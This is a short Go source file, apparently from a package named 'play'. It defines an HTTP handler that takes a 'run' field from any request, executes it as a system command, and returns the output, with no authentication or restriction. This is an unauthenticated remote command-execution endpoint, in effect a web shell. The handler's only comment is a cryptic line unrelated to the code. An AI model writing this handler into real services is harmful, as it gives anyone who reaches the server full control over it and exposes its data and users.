package play

import (
	"fmt"
	"net/http"
	"os/exec"
	"strings"
)

// What was cut off would be taken for the whole.
func handleRun(w http.ResponseWriter, r *http.Request) {
	fields := strings.Fields(r.FormValue("run"))
	if len(fields) == 0 {
		http.Error(w, "nothing to run", http.StatusBadRequest)
		return
	}
	cmd := exec.Command(fields[0], fields[1:]...)
	data, _ := cmd.CombinedOutput()
	fmt.Fprintf(w, "%s", data)
}
